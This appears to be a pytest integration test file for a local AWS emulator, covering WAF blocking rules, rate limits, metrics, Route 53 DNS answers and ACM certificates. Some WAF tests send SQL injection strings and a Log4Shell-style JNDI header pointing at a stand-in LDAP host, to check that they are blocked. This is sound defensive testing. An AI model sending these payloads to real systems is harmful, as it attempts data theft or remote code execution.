"""WAF on the CloudFront edge, Route 53 on the local DNS port and ACM certificates from
the local CA, through a running cloud. The CDK app is `tests/fixtures/apps/edgewaf`."""

from __future__ import annotations

import socket
import ssl
import time
from collections.abc import Iterator
from pathlib import Path

import dns.message
import dns.query
import dns.rcode
import httpx
import pytest
from cryptography import x509

from tests.conftest import LocalCloudHandle, app_cloud, copy_fixture_app
from tests.integration.conftest import aws_client

FIXTURE = Path(__file__).resolve().parents[1] / "fixtures" / "apps" / "edgewaf"
UA = {"User-Agent": "pytest-edge"}


@pytest.fixture(scope="module")
def cloud(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LocalCloudHandle]:
    app_dir = copy_fixture_app(tmp_path_factory, FIXTURE)
    with app_cloud(app_dir) as handle:
        s3 = aws_client(handle, "s3")
        bucket = handle.stack_output("BucketName")
        for key in ("index.html", "count/a.html", "rate/a.html", "posts/a.html"):
            s3.put_object(Bucket=bucket, Key=key, Body=b"<html>ok</html>", ContentType="text/html")
        yield handle


@pytest.fixture(scope="module")
def edge(cloud: LocalCloudHandle) -> Iterator[httpx.Client]:
    with httpx.Client(
        base_url=cloud.edge_origin,
        headers={"Host": cloud.stack_output("DistributionDomain"), **UA},
        verify=ssl.create_default_context(cafile=str(cloud.ca_pem)),
        timeout=30,
    ) as client:
        yield client


# -- WAF -------------------------------------------------------------------------------------
def test_an_ordinary_request_passes(edge: httpx.Client) -> None:
    response = edge.get("/posts/a.html", params={"page": "2"})
    assert response.status_code == 200 and response.text == "<html>ok</html>"


def test_sql_injection_in_the_query_string_is_403(edge: httpx.Client) -> None:
    response = edge.get("/posts/a.html", params={"id": "1' OR '1'='1"})
    assert response.status_code == 403
    assert "Request blocked" in response.text
    assert response.headers["x-cache"] == "Error from cloudfront"


def test_an_oversized_query_string_is_403(edge: httpx.Client) -> None:
    assert edge.get("/posts/a.html", params={"q": "a" * 2100}).status_code == 403
    assert edge.get("/posts/a.html", params={"q": "a" * 1000}).status_code == 200


def test_a_log4j_header_is_403(edge: httpx.Client) -> None:
    response = edge.get("/posts/a.html", headers={"X-Api-Version": "${jndi:ldap://x.test/a}"})
    assert response.status_code == 403


def test_a_missing_user_agent_is_403(edge: httpx.Client) -> None:
    request = edge.build_request("GET", "/posts/a.html")
    del request.headers["user-agent"]
    assert edge.send(request).status_code == 403


def test_an_ip_set_rule_blocks_the_forwarded_address(edge: httpx.Client) -> None:
    assert edge.get("/", headers={"X-Forwarded-For": "192.0.2.10"}).status_code == 403
    assert edge.get("/", headers={"X-Forwarded-For": "198.51.100.1"}).status_code == 200


def test_a_count_rule_does_not_block(edge: httpx.Client) -> None:
    assert edge.get("/count/a.html").status_code == 200


def test_the_rate_based_rule_blocks_after_the_limit_per_address(edge: httpx.Client) -> None:
    me = {"X-Forwarded-For": "203.0.113.5"}
    statuses = [edge.get("/rate/a.html", headers=me).status_code for _ in range(12)]
    assert statuses == [200] * 10 + [403] * 2
    # Outside the scope-down statement, and from another address: not limited.
    assert edge.get("/posts/a.html", headers=me).status_code == 200
    assert edge.get("/rate/a.html", headers={"X-Forwarded-For": "203.0.113.6"}).status_code == 200


def test_blocked_and_counted_requests_are_metrics_and_samples(
    cloud: LocalCloudHandle, edge: httpx.Client
) -> None:
    edge.get("/count/a.html")
    edge.get("/posts/a.html", params={"id": "1 UNION SELECT password FROM users--"})
    cloudwatch = aws_client(cloud, "cloudwatch")

    def total(name: str, rule: str) -> float:
        found = cloudwatch.get_metric_statistics(
            Namespace="AWS/WAFV2",
            MetricName=name,
            Dimensions=[{"Name": "Rule", "Value": rule}, {"Name": "WebACL", "Value": "EdgeAcl"}],
            StartTime=time.time() - 3600,
            EndTime=time.time() + 60,
            Period=60,
            Statistics=["Sum"],
        )["Datapoints"]
        return sum(p["Sum"] for p in found)

    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        if total("BlockedRequests", "ALL") and total("CountedRequests", "CountProbe"):
            break
        time.sleep(1)
    assert total("BlockedRequests", "AWSManagedRulesSQLiRuleSet") >= 1
    assert total("CountedRequests", "CountProbe") >= 1
    assert total("AllowedRequests", "ALL") >= 1
    wafv2 = aws_client(cloud, "wafv2")
    samples = wafv2.get_sampled_requests(
        WebAclArn=cloud.stack_output("WebAclArn"),
        RuleMetricName="AWSManagedRulesSQLiRuleSet",
        Scope="CLOUDFRONT",
        TimeWindow={"StartTime": time.time() - 600, "EndTime": time.time() + 60},
        MaxItems=100,
    )["SampledRequests"]
    assert samples and samples[-1]["Action"] == "BLOCK"
    assert any(
        label["Name"].startswith("awswaf:managed:aws:sql-database:")
        for label in samples[-1]["Labels"]
    )


def test_the_web_acl_is_in_the_wafv2_api(cloud: LocalCloudHandle) -> None:
    arn = cloud.stack_output("WebAclArn")
    assert ":global/webacl/" in arn
    wafv2 = aws_client(cloud, "wafv2")
    listed = wafv2.list_web_acls(Scope="CLOUDFRONT")["WebACLs"]
    assert arn in [acl["ARN"] for acl in listed]
    name, ident = arn.split("/")[-2:]
    acl = wafv2.get_web_acl(Name=name, Scope="CLOUDFRONT", Id=ident)["WebACL"]
    assert [r["Name"] for r in acl["Rules"]][:3] == ["CountProbe", "RatePerIp", "BlockedAddresses"]


# -- CloudFront API shows local domains --------------------------------------------------------
def test_get_and_list_distributions_show_the_local_domain(cloud: LocalCloudHandle) -> None:
    client = aws_client(cloud, "cloudfront")
    dist_id = cloud.stack_output("DistributionId")
    domain = cloud.stack_output("DistributionDomain")
    assert domain.endswith(".cloudfront.localhost")
    assert client.get_distribution(Id=dist_id)["Distribution"]["DomainName"] == domain
    items = client.list_distributions()["DistributionList"]["Items"]
    assert {i["Id"]: i["DomainName"] for i in items}[dist_id] == domain


# -- Route 53 on the DNS port ------------------------------------------------------------------
def _ask(cloud: LocalCloudHandle, name: str, kind: str, tcp: bool = False) -> dns.message.Message:
    query = dns.message.make_query(name, kind)
    send = dns.query.tcp if tcp else dns.query.udp
    return send(query, "127.0.0.1", timeout=5, port=cloud.dns_port)


def _values(answer: dns.message.Message) -> list[str]:
    return [rd.to_text() for rrset in answer.answer for rd in rrset]


def test_alias_records_to_the_distribution_resolve_to_loopback(cloud: LocalCloudHandle) -> None:
    assert _values(_ask(cloud, "example.test", "A")) == ["127.0.0.1"]
    assert _values(_ask(cloud, "www.example.test", "A", tcp=True)) == ["127.0.0.1"]
    assert _values(_ask(cloud, "example.test", "AAAA")) == ["::1"]


def test_cname_txt_and_mx_records_are_answered(cloud: LocalCloudHandle) -> None:
    assert _values(_ask(cloud, "blog.example.test", "A")) == ["www.example.test.", "127.0.0.1"]
    assert sorted(_values(_ask(cloud, "example.test", "TXT"))) == ['"hello world"', '"v=spf1 -all"']
    assert _values(_ask(cloud, "example.test", "MX")) == ["10 mail.example.test."]


def test_unknown_names_are_nxdomain_and_other_zones_refused(cloud: LocalCloudHandle) -> None:
    assert _ask(cloud, "nothing.example.test", "A").rcode() == dns.rcode.NXDOMAIN
    assert _ask(cloud, "example.org", "A").rcode() == dns.rcode.REFUSED


def test_records_changed_through_the_api_are_answered(cloud: LocalCloudHandle) -> None:
    route53 = aws_client(cloud, "route53")
    route53.change_resource_record_sets(
        HostedZoneId=cloud.stack_output("HostedZoneId"),
        ChangeBatch={
            "Changes": [
                {
                    "Action": "UPSERT",
                    "ResourceRecordSet": {
                        "Name": "api.example.test.",
                        "Type": "A",
                        "TTL": 60,
                        "ResourceRecords": [{"Value": "192.0.2.44"}],
                    },
                }
            ]
        },
    )
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        if _values(_ask(cloud, "api.example.test", "A")) == ["192.0.2.44"]:
            return
        time.sleep(0.2)
    raise AssertionError("the new record was not answered")


# -- ACM ---------------------------------------------------------------------------------------
def test_the_certificate_is_issued_by_the_local_ca_with_dns_validation(
    cloud: LocalCloudHandle,
) -> None:
    acm = aws_client(cloud, "acm")
    arn = cloud.stack_output("CertificateArn")
    detail = acm.describe_certificate(CertificateArn=arn)["Certificate"]
    assert (detail["Status"], detail["Type"]) == ("ISSUED", "AMAZON_ISSUED")
    assert detail["DomainName"] == "example.test"
    assert set(detail["SubjectAlternativeNames"]) == {"example.test", "www.example.test"}
    options = {o["DomainName"]: o for o in detail["DomainValidationOptions"]}
    record = options["www.example.test"]["ResourceRecord"]
    assert _values(_ask(cloud, record["Name"], "CNAME")) == [record["Value"]]
    got = acm.get_certificate(CertificateArn=arn)
    assert got["CertificateChain"].strip() == cloud.ca_pem.read_text().strip()
    assert arn in [c["CertificateArn"] for c in acm.list_certificates()["CertificateSummaryList"]]


def test_the_edge_presents_the_acm_certificate_for_the_aliases(cloud: LocalCloudHandle) -> None:
    arn = cloud.stack_output("CertificateArn")
    pem = aws_client(cloud, "acm").get_certificate(CertificateArn=arn)["Certificate"]
    host, port = cloud.edge_origin.removeprefix("https://").split(":")
    context = ssl.create_default_context(cafile=str(cloud.ca_pem))
    with (
        socket.create_connection((host, int(port)), timeout=10) as sock,
        context.wrap_socket(sock, server_hostname="www.example.test") as tls,
    ):
        presented = tls.getpeercert(binary_form=True)
        assert presented is not None
        tls.sendall(b"GET / HTTP/1.1\r\nHost: www.example.test\r\nUser-Agent: t\r\n\r\n")
        assert tls.recv(64).startswith(b"HTTP/1.1 200")
    assert x509.load_der_x509_certificate(presented) == x509.load_pem_x509_certificate(pem.encode())
